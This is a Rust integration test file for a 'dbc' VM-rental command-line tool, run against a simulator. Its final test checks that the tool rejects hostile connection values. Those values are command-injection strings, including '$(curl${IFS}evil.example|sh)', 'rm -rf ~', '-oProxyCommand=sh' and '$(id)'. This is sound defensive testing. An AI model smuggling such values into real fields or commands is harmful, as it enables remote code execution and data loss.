//! The real `dbc` binary against an in-process simulator: a whole VM life driven through the
//! command line (JSON on stdout, JSON errors on stderr, exit codes), plus `--dry-run` and
//! client-side validation.

use std::process::Output;
use std::time::Duration;

use dbc_sim::config::DEMO_MACHINE_BETA;
use dbc_sim::{
    Control, Fault, HostileConnection, SimConfig, SimServer, DEMO_SEED_HEX, DEMO_WALLET,
};
use serde_json::Value;

const KEY_VAR: &str = "DBC_TEST_KEY";

struct Cli {
    url: String,
    ctl: Control,
}

impl Cli {
    /// Run `dbc --url … --node beta --rent-order 1002 --key-env DBC_TEST_KEY <args>`.
    async fn run(&self, args: &[&str]) -> Output {
        tokio::process::Command::new(env!("CARGO_BIN_EXE_dbc"))
            .args([
                "--url",
                &self.url,
                "--node",
                DEMO_MACHINE_BETA,
                "--rent-order",
                "1002",
                "--key-env",
                KEY_VAR,
            ])
            .args(args)
            .env(KEY_VAR, DEMO_SEED_HEX)
            .env_remove("DBC_URL")
            .env_remove("DBC_NODE")
            .env_remove("DBC_RENT_ORDER")
            .kill_on_drop(true)
            .output()
            .await
            .expect("run dbc")
    }

    /// Run and expect success; the parsed JSON stdout.
    async fn ok(&self, args: &[&str]) -> Value {
        let out = self.run(args).await;
        assert!(
            out.status.success(),
            "dbc {args:?} failed ({:?}): {}",
            out.status.code(),
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
            panic!(
                "dbc {args:?}: stdout is not JSON ({e}): {}",
                String::from_utf8_lossy(&out.stdout)
            )
        })
    }

    /// Let simulated time pass between polls.
    async fn tick(&self) {
        self.ctl.advance_clock(Duration::from_millis(500));
        tokio::time::sleep(Duration::from_millis(5)).await;
    }

    /// Poll `dbc task <id>` until the status is `want`.
    async fn wait_status(&self, id: &str, want: &str) -> Value {
        let mut last = Value::Null;
        for _ in 0..100 {
            let d = self.ok(&["task", id]).await;
            if d["status"] == want {
                return d;
            }
            last = d["status"].clone();
            self.tick().await;
        }
        panic!("task {id} never reached {want} (last {last})");
    }
}

fn stderr_json(out: &Output) -> Value {
    serde_json::from_slice(&out.stderr).unwrap_or_else(|e| {
        panic!(
            "stderr is not JSON ({e}): {}",
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

const CREATE: &[&str] = &[
    "create",
    "--image",
    "ubuntu-22.04.qcow2",
    "--gpu-count",
    "2",
    "--ssh-port",
    "20122",
    "--cpu-cores",
    "4",
    "--mem-size",
    "16",
    "--disk-size",
    "100",
    "--desc",
    "cli vm",
];

fn create_args(vnc: &'static str) -> Vec<&'static str> {
    let mut v = CREATE.to_vec();
    v.extend(["--vnc-port", vnc]);
    v
}

async fn start() -> (SimServer, Cli) {
    let server = SimServer::start(
        SimConfig::demo().with_speed(1000.0),
        "127.0.0.1:0".parse().unwrap(),
    )
    .await
    .expect("start simulator");
    let cli = Cli {
        url: server.base_url(),
        ctl: server.control(),
    };
    (server, cli)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn whole_vm_life_through_the_cli() {
    let (server, cli) = start().await;

    // create → running
    let created = cli.ok(&create_args("5911")).await;
    assert_eq!(created["status"], "creating", "{created}");
    assert_eq!(created["desc"], "cli vm");
    let id = created["task_id"].as_str().unwrap().to_string();
    let d = cli.wait_status(&id, "running").await;
    assert_eq!(d["ssh_port"], "20122");
    assert_eq!(d["rent_order"], "1002");
    let tasks = cli.ok(&["tasks"]).await;
    assert_eq!(tasks.as_array().unwrap().len(), 1);

    // shutdown → closed
    assert_eq!(cli.ok(&["shutdown", &id]).await, "ok");
    cli.wait_status(&id, "closed").await;

    // disk-add (asynchronous): a disk appears
    let before = cli.ok(&["disks", &id]).await.as_array().unwrap().len();
    assert_eq!(cli.ok(&["disk-add", &id, "--size-gb", "20"]).await, "ok");
    let mut disks = before;
    for _ in 0..100 {
        disks = cli.ok(&["disks", &id]).await.as_array().unwrap().len();
        if disks > before {
            break;
        }
        cli.tick().await;
    }
    assert_eq!(disks, before + 1, "the added disk never showed");
    cli.wait_status(&id, "closed").await;

    // snapshot-create → listed, until its status is none
    assert_eq!(
        cli.ok(&[
            "snapshot-create",
            &id,
            "--name",
            "snap1",
            "--desc",
            "from the cli",
            "--image-server",
            "dbc-image-center-1",
        ])
        .await,
        "ok"
    );
    let mut snap_status = Value::Null;
    for _ in 0..100 {
        let list = cli.ok(&["snapshots", &id]).await;
        let snap = list
            .as_array()
            .unwrap()
            .iter()
            .find(|s| s["snapshot_name"] == "snap1")
            .cloned()
            .expect("snapshot listed");
        snap_status = snap["status"].clone();
        if snap_status == "none" {
            assert_eq!(snap["description"], "from the cli");
            break;
        }
        cli.tick().await;
    }
    assert_eq!(snap_status, "none");
    cli.wait_status(&id, "closed").await;

    // start → running, logs
    assert_eq!(cli.ok(&["start", &id]).await, "ok");
    cli.wait_status(&id, "running").await;
    let logs = cli.ok(&["logs", &id, "--lines", "5"]).await;
    assert_eq!(logs["task_id"], id.as_str());
    let lines = logs["log_content"].as_array().unwrap();
    assert!(!lines.is_empty() && lines.len() <= 5, "{logs}");
    let head = cli.ok(&["logs", &id, "--head", "--lines", "3"]).await;
    assert!(!head["log_content"].as_array().unwrap().is_empty());

    // a state error exits non-zero with the node's message kept
    let out = cli.run(&["start", &id]).await;
    assert_eq!(out.status.code(), Some(1));
    let err = stderr_json(&out);
    assert_eq!(err["error"], "wrong_state");
    assert_eq!(err["reply"]["message"], "task is running");

    // delete → gone: `dbc task` fails with not_found
    assert_eq!(cli.ok(&["delete", &id]).await, "ok");
    let mut gone = None;
    for _ in 0..100 {
        let out = cli.run(&["task", &id]).await;
        if !out.status.success() {
            gone = Some(out);
            break;
        }
        cli.tick().await;
    }
    let out = gone.expect("task never disappeared");
    assert_eq!(out.status.code(), Some(1));
    assert!(out.stdout.is_empty());
    let err = stderr_json(&out);
    assert_eq!(err["error"], "not_found", "{err}");
    assert_eq!(err["reply"]["errcode"], -3);
    assert_eq!(err["reply"]["message"], "task_id not exist");
    assert!(cli.ok(&["tasks"]).await.as_array().unwrap().is_empty());
    assert!(cli.ctl.task(DEMO_MACHINE_BETA, &id).is_none());
    server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dry_run_prints_the_signed_body_and_sends_nothing() {
    let (server, cli) = start().await;
    let nonces = cli.ctl.machine(DEMO_MACHINE_BETA).unwrap().used_nonces;
    let mut args = vec!["--dry-run", "--show-secrets"];
    args.extend(create_args("5911"));
    let out = cli.ok(&args).await;
    assert_eq!(out["method"], "POST");
    assert_eq!(
        out["url"],
        format!("{}/api/v1/tasks/start", cli.url).as_str()
    );
    let body = &out["body"];
    let add = &body["additional"];
    // the node wants numbers as JSON strings
    for (k, v) in [
        ("gpu_count", "2"),
        ("cpu_cores", "4"),
        ("mem_size", "16"),
        ("disk_size", "100"),
        ("ssh_port", "20122"),
        ("vnc_port", "5911"),
    ] {
        assert_eq!(add[k], Value::String(v.into()), "{k} in {add}");
    }
    assert_eq!(add["image_name"], "ubuntu-22.04.qcow2");
    assert_eq!(body["peer_nodes_list"][0], DEMO_MACHINE_BETA);
    assert_eq!(body["rent_order"], "1002");
    assert_eq!(body["wallet"], DEMO_WALLET);
    assert_eq!(body["nonce"].as_str().unwrap().len(), 55);
    assert_eq!(body["sign"].as_str().unwrap().len(), 128);
    assert!(dbc_api_verify(
        DEMO_WALLET,
        body["nonce"].as_str().unwrap(),
        body["sign"].as_str().unwrap()
    ));
    // nothing reached the simulator
    assert_eq!(
        cli.ctl.machine(DEMO_MACHINE_BETA).unwrap().used_nonces,
        nonces
    );
    assert!(cli.ctl.machine(DEMO_MACHINE_BETA).unwrap().tasks.is_empty());
    server.shutdown().await;
}

/// Signature check with the simulator's own (independent) verifier.
fn dbc_api_verify(wallet: &str, nonce: &str, sign: &str) -> bool {
    dbc_sim::crypto::verify(wallet, nonce, sign)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_vnc_port_is_refused_before_sending() {
    let (server, cli) = start().await;
    let nonces = cli.ctl.machine(DEMO_MACHINE_BETA).unwrap().used_nonces;
    let out = cli.run(&create_args("80")).await;
    assert_eq!(out.status.code(), Some(1));
    assert!(out.stdout.is_empty());
    let err = stderr_json(&out);
    assert_eq!(err["error"], "validation", "{err}");
    let fields = err["fields"].as_array().expect("fields listed");
    assert!(fields.iter().any(|f| f["field"] == "vnc_port"), "{err}");
    assert!(err.get("reply").is_none());
    assert_eq!(
        cli.ctl.machine(DEMO_MACHINE_BETA).unwrap().used_nonces,
        nonces
    );
    assert!(cli.ctl.machine(DEMO_MACHINE_BETA).unwrap().tasks.is_empty());
    server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ssh_prints_only_checked_commands() {
    let (server, cli) = start().await;
    let created = cli.ok(&create_args("5911")).await;
    let id = created["task_id"].as_str().unwrap().to_string();
    let ip = cli.ok(&["task", &id]).await["ssh_ip"]
        .as_str()
        .unwrap()
        .to_string();

    // An honest node: the command alone on stdout.
    let out = cli.run(&["ssh", &id]).await;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        String::from_utf8(out.stdout).unwrap(),
        format!("ssh -p 20122 dbc@{ip}\n")
    );
    assert!(out.stderr.is_empty());

    let hostile = |h: HostileConnection| {
        cli.ctl.clear_faults();
        cli.ctl.add_fault(Fault::hostile_connection(&id, h));
    };
    let ip_is = |v: &str| HostileConnection {
        ssh_ip: Some(v.into()),
        ..Default::default()
    };
    let user_is = |v: &str| HostileConnection {
        user_name: Some(v.into()),
        ..Default::default()
    };
    let port_is = |v: &str| HostileConnection {
        ssh_port: Some(v.into()),
        ..Default::default()
    };

    // Good values from the node still make a command (IPv6 unbracketed after the @).
    for (h, want) in [
        (ip_is("2001:db8::17"), "ssh -p 20122 dbc@2001:db8::17\n"),
        (
            ip_is("gpu-7.eu-west.example.com"),
            "ssh -p 20122 dbc@gpu-7.eu-west.example.com\n",
        ),
        (
            user_is("first.last_2"),
            &format!("ssh -p 20122 first.last_2@{ip}\n"),
        ),
        (port_is("2222"), &format!("ssh -p 2222 dbc@{ip}\n")),
    ] {
        hostile(h);
        let out = cli.run(&["ssh", &id]).await;
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(String::from_utf8(out.stdout).unwrap(), want);
    }

    // Hostile values: nothing on stdout, the field and rule on stderr, exit 1.
    let cases = [
        (ip_is("1.2.3.4;reboot"), "ssh_ip", "char"),
        (ip_is("$(curl${IFS}evil.example|sh)"), "ssh_ip", "char"),
        (ip_is("`reboot`"), "ssh_ip", "char"),
        (ip_is("1.2.3.4\nrm -rf ~"), "ssh_ip", "control"),
        (ip_is("1.2.3.4 -oProxyCommand=sh"), "ssh_ip", "space"),
        (ip_is("moc.live\u{202e}1.2.3.4"), "ssh_ip", "not_ascii"),
        (user_is("-oProxyCommand=sh"), "user_name", "leading_dash"),
        (user_is("db c"), "user_name", "space"),
        (user_is("dbc\u{7}\u{1b}[2J"), "user_name", "control"),
        (user_is("$(id)"), "user_name", "char"),
        (port_is("22;id"), "ssh_port", "char"),
        (port_is("70000"), "ssh_port", "range"),
    ];
    for (h, field, rule) in cases {
        let raw = h
            .ssh_ip
            .clone()
            .or(h.user_name.clone())
            .or(h.ssh_port.clone())
            .unwrap();
        hostile(h);
        let out = cli.run(&["ssh", &id]).await;
        assert_eq!(out.status.code(), Some(1), "{raw:?}");
        assert!(
            out.stdout.is_empty(),
            "{raw:?}: stdout {:?}",
            String::from_utf8_lossy(&out.stdout)
        );
        // Hidden characters are escaped: nothing can garble the terminal.
        assert!(out.stderr.is_ascii(), "{raw:?}");
        let err = stderr_json(&out);
        assert_eq!(err["error"], "unsafe_connection", "{err}");
        let fields = err["fields"].as_array().unwrap();
        assert_eq!(fields.len(), 1, "{err}");
        assert_eq!(fields[0]["field"], field, "{err}");
        assert_eq!(fields[0]["rule"], rule, "{err}");
        assert_eq!(fields[0]["value"], raw.as_str(), "{err}");
        // `dbc task` still shows the node's values as data
        assert_eq!(cli.ok(&["task", &id]).await[field], raw.as_str());
    }

    // No SSH port: no command either, and says so.
    hostile(port_is(""));
    let out = cli.run(&["ssh", &id]).await;
    assert_eq!(out.status.code(), Some(1));
    assert!(out.stdout.is_empty());
    assert_eq!(stderr_json(&out)["error"], "not_offered");
    server.shutdown().await;
}
